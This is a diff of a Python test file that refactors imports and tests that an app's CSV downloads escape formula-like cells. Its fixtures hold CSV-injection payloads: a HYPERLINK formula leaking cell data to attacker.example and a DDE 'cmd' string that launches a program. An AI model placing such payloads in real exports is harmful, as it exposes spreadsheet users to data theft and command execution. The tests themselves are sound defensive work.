@@ -8,8 +8,11 @@ import io
 import numpy as np
 
 from tests.weights import random_weights
-from vae import bundle, data, spreadsheet
+from vae import spreadsheet
 from vae.config import DataConfig, ModelConfig
+from vae.data.build import load_csv
+from vae.data.dataset import dataset_frame, make_dataset, to_csv_bytes
+from vae.storage.bundle_save import decoded_grid_csv
 
 LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 LABELS = np.array([LINK, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTAB", "setosa"] * 5, dtype=object)
@@ -22,12 +25,12 @@ def rows_of(payload: bytes) -> list[list[str]]:
 def hostile_dataset():
     values = np.column_stack([np.linspace(-3.5, 2.0, 30), np.linspace(5.0, -1.25, 30)])
     config = DataConfig(source="upload", preset="upload", n_samples=30, noise=0.0, label_column="@kind")
-    return data.make_dataset(values, (LINK, "-minus"), config, labels=LABELS)
+    return make_dataset(values, (LINK, "-minus"), config, labels=LABELS)
 
 
 def test_the_data_download_prefixes_formula_text_and_keeps_numbers():
     dataset = hostile_dataset()
-    rows = rows_of(spreadsheet.csv_bytes(data.dataset_frame(dataset)))
+    rows = rows_of(spreadsheet.csv_bytes(dataset_frame(dataset)))
     assert rows[0] == ["'" + LINK, "'-minus", "'@kind"]
     labels = [row[2] for row in rows[1:7]]
     assert labels == ["'" + LINK, "'+1+2", "'-3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\tTAB", "setosa"]
@@ -38,14 +41,14 @@ def test_the_data_download_prefixes_formula_text_and_keeps_numbers():
 
 def test_the_bundle_csv_stays_exact_for_the_app():
     dataset = hostile_dataset()
-    back = data.load_csv(data.to_csv_bytes(dataset), columns=[LINK, "-minus"], label_column="@kind")
+    back = load_csv(to_csv_bytes(dataset), columns=[LINK, "-minus"], label_column="@kind")
     assert back.columns == (LINK, "-minus") and list(back.labels) == list(LABELS)
 
 
 def test_the_decoded_grid_download_prefixes_formula_column_names():
     dataset = hostile_dataset()
     weights = random_weights(ModelConfig(encoder_units=(4,), decoder_units=(4,)))
-    rows = rows_of(bundle.decoded_grid_csv(weights, dataset, steps=3))
+    rows = rows_of(decoded_grid_csv(weights, dataset, steps=3))
     assert rows[0] == ["z1", "z2", "'" + LINK, "'-minus"]
     assert float(rows[1][0]) == -3.0  # numbers unchanged
 
